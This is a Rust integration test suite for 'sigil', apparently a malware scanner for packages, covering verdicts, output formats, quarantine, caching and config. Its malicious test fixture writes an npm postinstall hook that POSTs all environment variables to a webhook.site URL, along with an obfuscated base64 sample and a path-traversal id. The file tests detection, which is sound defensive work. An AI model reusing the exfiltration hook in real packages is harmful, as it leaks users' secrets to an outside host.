use std::fs;
use std::path::{Path, PathBuf};

use assert_cmd::Command;
use predicates::prelude::*;
use tempfile::TempDir;

/// A sigil invocation with its state isolated under a temp root.
fn sigil(home: &TempDir) -> Command {
    let mut cmd = Command::cargo_bin("sigil").unwrap();
    cmd.env("SIGIL_HOME", home.path());
    cmd
}

fn write(root: &Path, rel: &str, contents: &str) {
    let path = root.join(rel);
    if let Some(parent) = path.parent() {
        fs::create_dir_all(parent).unwrap();
    }
    fs::write(path, contents).unwrap();
}

fn clean_fixture() -> TempDir {
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "hello.py", "print(\"hello\")\n");
    dir
}

/// The npm postinstall + webhook + env-dump + obfuscation fixture.
fn malicious_fixture() -> TempDir {
    let dir = tempfile::tempdir().unwrap();
    write(
        dir.path(),
        "package.json",
        "{ \"name\": \"x\", \"scripts\": { \"postinstall\": \"node install.js\" } }\n",
    );
    write(
        dir.path(),
        "install.js",
        concat!(
            "const cp = require('child_process');\n",
            "fetch('https://webhook.site/abc123', { method: 'POST',\n",
            "  body: JSON.stringify(process.env) });\n",
        ),
    );
    write(
        dir.path(),
        "lib/utils.js",
        "const p = atob('aGVsbG8gd29ybGQgdGhpcyBpcyBhIGxvbmcgcGF5bG9hZCBzdHJpbmc=');\n",
    );
    dir
}

/// Pull the quarantine id out of a text-format scan transcript.
fn extract_id(stdout: &[u8]) -> String {
    let text = String::from_utf8_lossy(stdout);
    text.lines()
        .find_map(|l| l.split("quarantine id: ").nth(1))
        .expect("quarantine id in output")
        .trim()
        .to_string()
}

fn quarantine_dir(home: &TempDir, id: &str) -> PathBuf {
    home.path().join("quarantine").join(id)
}

fn approved_dir(home: &TempDir, id: &str) -> PathBuf {
    home.path().join("approved").join(id)
}

// ---------------------------------------------------------------------------
// Verdicts and exit codes
// ---------------------------------------------------------------------------

#[test]
fn clean_directory_scans_clean_and_exits_zero() {
    let home = tempfile::tempdir().unwrap();
    let fixture = clean_fixture();

    sigil(&home)
        .args(["scan", fixture.path().to_str().unwrap()])
        .assert()
        .success()
        .stdout(predicate::str::contains("CLEAN"))
        .stdout(predicate::str::contains("1 files scanned"));
}

#[test]
fn malicious_package_is_critical_and_exits_one() {
    let home = tempfile::tempdir().unwrap();
    let fixture = malicious_fixture();

    sigil(&home)
        .args(["scan", fixture.path().to_str().unwrap()])
        .assert()
        .code(1)
        .stdout(predicate::str::contains("CRITICAL"));
}

#[test]
fn env_read_without_exfil_is_low_risk_and_exits_zero() {
    let home = tempfile::tempdir().unwrap();
    let fixture = tempfile::tempdir().unwrap();
    write(
        fixture.path(),
        "settings.py",
        "import os\nkey = os.environ.get(\"API_KEY\")\n",
    );

    sigil(&home)
        .args(["scan", fixture.path().to_str().unwrap()])
        .assert()
        .success()
        .stdout(predicate::str::contains("LOW RISK"));
}

#[test]
fn fail_on_findings_raises_low_risk_to_exit_four() {
    let home = tempfile::tempdir().unwrap();
    let fixture = tempfile::tempdir().unwrap();
    write(
        fixture.path(),
        "settings.py",
        "import os\nkey = os.environ.get(\"API_KEY\")\n",
    );

    sigil(&home)
        .args([
            "scan",
            fixture.path().to_str().unwrap(),
            "--fail-on-findings",
            "--no-cache",
        ])
        .assert()
        .code(4);
}

#[test]
fn short_base64_string_stays_clean() {
    let home = tempfile::tempdir().unwrap();
    let fixture = tempfile::tempdir().unwrap();
    write(fixture.path(), "data.js", "const k = 'QUJDREVGR0hJSktMTU5P';\n");

    sigil(&home)
        .args(["scan", fixture.path().to_str().unwrap()])
        .assert()
        .success()
        .stdout(predicate::str::contains("CLEAN"));
}

// ---------------------------------------------------------------------------
// Machine-readable output
// ---------------------------------------------------------------------------

#[test]
fn json_output_is_parseable_and_complete() {
    let home = tempfile::tempdir().unwrap();
    let fixture = malicious_fixture();

    let output = sigil(&home)
        .args(["scan", fixture.path().to_str().unwrap(), "--format", "json"])
        .assert()
        .code(1)
        .get_output()
        .stdout
        .clone();

    let value: serde_json::Value = serde_json::from_slice(&output).expect("valid json on stdout");
    assert_eq!(value["verdict"], "Critical");
    assert!(value["score"].as_f64().unwrap() >= 50.0);
    assert!(value["content_digest"].as_str().unwrap().len() == 64);
    assert!(value["findings"].as_array().unwrap().len() >= 4);
    assert_eq!(value["truncated"], false);
    assert!(value["phases"]["install_hooks"]["findings"].as_u64().unwrap() >= 1);
}

#[test]
fn sarif_output_declares_version() {
    let home = tempfile::tempdir().unwrap();
    let fixture = clean_fixture();

    let output = sigil(&home)
        .args(["scan", fixture.path().to_str().unwrap(), "--format", "sarif"])
        .assert()
        .success()
        .get_output()
        .stdout
        .clone();

    let value: serde_json::Value = serde_json::from_slice(&output).expect("valid sarif json");
    assert_eq!(value["version"], "2.1.0");
}

// ---------------------------------------------------------------------------
// Quarantine lifecycle
// ---------------------------------------------------------------------------

#[test]
fn approve_round_trip_moves_tree_and_keeps_report() {
    let home = tempfile::tempdir().unwrap();
    let fixture = clean_fixture();

    let output = sigil(&home)
        .args(["scan", fixture.path().to_str().unwrap()])
        .assert()
        .success()
        .get_output()
        .stdout
        .clone();
    let id = extract_id(&output);

    assert!(quarantine_dir(&home, &id).join("hello.py").is_file());

    sigil(&home)
        .args(["list"])
        .assert()
        .success()
        .stdout(predicate::str::contains("PENDING"));

    sigil(&home)
        .args(["approve", &id])
        .assert()
        .success()
        .stdout(predicate::str::contains("approved"));

    assert!(approved_dir(&home, &id).join("hello.py").is_file());
    assert!(!quarantine_dir(&home, &id).exists());
    assert!(home
        .path()
        .join("reports")
        .join(format!("{}_report.txt", id))
        .is_file());

    sigil(&home)
        .args(["list"])
        .assert()
        .success()
        .stdout(predicate::str::contains("APPROVED"));

    // Terminal: a second approve fails without touching the tree.
    sigil(&home).args(["approve", &id]).assert().code(1);
    assert!(approved_dir(&home, &id).join("hello.py").is_file());
}

#[test]
fn reject_deletes_tree_and_lists_as_rejected() {
    let home = tempfile::tempdir().unwrap();
    let fixture = malicious_fixture();

    let output = sigil(&home)
        .args(["scan", fixture.path().to_str().unwrap()])
        .assert()
        .code(1)
        .get_output()
        .stdout
        .clone();
    let id = extract_id(&output);

    sigil(&home)
        .args(["reject", &id])
        .assert()
        .success()
        .stdout(predicate::str::contains("rejected"));

    assert!(!quarantine_dir(&home, &id).exists());
    assert!(home
        .path()
        .join("reports")
        .join(format!("{}.json", id))
        .is_file());

    sigil(&home)
        .args(["list", "--status", "rejected"])
        .assert()
        .success()
        .stdout(predicate::str::contains("REJECTED"));
}

#[test]
fn approve_with_path_traversal_id_is_refused() {
    let home = tempfile::tempdir().unwrap();

    sigil(&home)
        .args(["approve", "../etc"])
        .assert()
        .code(1)
        .stderr(predicate::str::contains("invalid quarantine id"));

    // No filesystem mutation outside the layout.
    assert!(!home.path().join("etc").exists());
}

#[test]
fn empty_quarantine_lists_nothing() {
    let home = tempfile::tempdir().unwrap();
    sigil(&home)
        .args(["list"])
        .assert()
        .success()
        .stdout(predicate::str::contains("no quarantined items"));
}

// ---------------------------------------------------------------------------
// Cache and diff
// ---------------------------------------------------------------------------

#[test]
fn rescan_of_unchanged_content_is_served_from_cache() {
    let home = tempfile::tempdir().unwrap();
    let fixture = malicious_fixture();
    let path = fixture.path().to_str().unwrap().to_string();

    let first = sigil(&home)
        .args(["scan", &path, "--format", "json"])
        .assert()
        .code(1)
        .get_output()
        .stdout
        .clone();
    let second = sigil(&home)
        .args(["scan", &path, "--format", "json"])
        .assert()
        .code(1)
        .get_output()
        .stdout
        .clone();

    let a: serde_json::Value = serde_json::from_slice(&first).unwrap();
    let b: serde_json::Value = serde_json::from_slice(&second).unwrap();
    // Same scan_id proves the second run came from the cache.
    assert_eq!(a["scan_id"], b["scan_id"]);
    assert_eq!(a["findings"], b["findings"]);
}

#[test]
fn no_cache_forces_a_fresh_scan() {
    let home = tempfile::tempdir().unwrap();
    let fixture = clean_fixture();
    let path = fixture.path().to_str().unwrap().to_string();

    let first = sigil(&home)
        .args(["scan", &path, "--format", "json", "--no-cache"])
        .assert()
        .success()
        .get_output()
        .stdout
        .clone();
    let second = sigil(&home)
        .args(["scan", &path, "--format", "json", "--no-cache"])
        .assert()
        .success()
        .get_output()
        .stdout
        .clone();

    let a: serde_json::Value = serde_json::from_slice(&first).unwrap();
    let b: serde_json::Value = serde_json::from_slice(&second).unwrap();
    assert_ne!(a["scan_id"], b["scan_id"]);
    assert_eq!(a["findings"], b["findings"]);
}

#[test]
fn diff_of_a_report_with_itself_is_empty() {
    let home = tempfile::tempdir().unwrap();
    let fixture = malicious_fixture();

    let output = sigil(&home)
        .args(["scan", fixture.path().to_str().unwrap()])
        .assert()
        .code(1)
        .get_output()
        .stdout
        .clone();
    let id = extract_id(&output);
    let report = home.path().join("reports").join(format!("{}.json", id));
    let report = report.to_str().unwrap();

    sigil(&home)
        .args(["diff", report, report])
        .assert()
        .success()
        .stdout(predicate::str::contains("No changes detected"));
}

#[test]
fn clear_cache_reports_count() {
    let home = tempfile::tempdir().unwrap();
    let fixture = clean_fixture();

    sigil(&home)
        .args(["scan", fixture.path().to_str().unwrap()])
        .assert()
        .success();

    sigil(&home)
        .args(["clear-cache"])
        .assert()
        .success()
        .stdout(predicate::str::contains("cleared 1 cached scan result"));
}

// ---------------------------------------------------------------------------
// Configuration
// ---------------------------------------------------------------------------

#[test]
fn config_set_get_and_list() {
    let home = tempfile::tempdir().unwrap();

    sigil(&home)
        .args(["config", "format", "json"])
        .assert()
        .success();

    sigil(&home)
        .args(["config", "format"])
        .assert()
        .success()
        .stdout(predicate::str::contains("json"));

    sigil(&home)
        .args(["config", "--list"])
        .assert()
        .success()
        .stdout(predicate::str::contains("threshold = (unset)"));

    // Persisted default applies: scan output is now JSON.
    let fixture = clean_fixture();
    let output = sigil(&home)
        .args(["scan", fixture.path().to_str().unwrap()])
        .assert()
        .success()
        .get_output()
        .stdout
        .clone();
    serde_json::from_slice::<serde_json::Value>(&output).expect("config default made stdout json");
}

#[test]
fn unknown_config_key_fails() {
    let home = tempfile::tempdir().unwrap();
    sigil(&home)
        .args(["config", "colour", "always"])
        .assert()
        .code(1)
        .stderr(predicate::str::contains("unknown config key"));
}

// ---------------------------------------------------------------------------
// Operational errors
// ---------------------------------------------------------------------------

#[test]
fn scanning_a_missing_path_exits_one() {
    let home = tempfile::tempdir().unwrap();
    sigil(&home)
        .args(["scan", "/definitely/not/a/real/path"])
        .assert()
        .code(1)
        .stderr(predicate::str::contains("does not exist"));
}

#[test]
fn malformed_synced_signatures_abort_before_scanning() {
    let home = tempfile::tempdir().unwrap();
    let fixture = clean_fixture();

    let sig_dir = home.path().join("signatures");
    fs::create_dir_all(&sig_dir).unwrap();
    fs::write(
        sig_dir.join("current.json"),
        r#"{"signatures":[{"id":"X-1","phase":"obfuscation","severity":"low","weight":1.0,"pattern":"(["}]}"#,
    )
    .unwrap();

    sigil(&home)
        .args(["scan", fixture.path().to_str().unwrap()])
        .assert()
        .code(1)
        .stderr(predicate::str::contains("invalid pattern"));
}

#[test]
fn synced_signatures_overlay_the_builtin_catalog() {
    let home = tempfile::tempdir().unwrap();
    let fixture = tempfile::tempdir().unwrap();
    write(fixture.path(), "magic.txt", "xyzzy-marker\n");

    let sig_dir = home.path().join("signatures");
    fs::create_dir_all(&sig_dir).unwrap();
    fs::write(
        sig_dir.join("current.json"),
        r#"{"signatures":[{"id":"LOCAL-001","phase":"network_exfil","severity":"high","weight":2.0,"pattern":"xyzzy-marker","description":"local test rule"}]}"#,
    )
    .unwrap();

    sigil(&home)
        .args(["scan", fixture.path().to_str().unwrap()])
        .assert()
        .stdout(predicate::str::contains("LOCAL-001"));
}
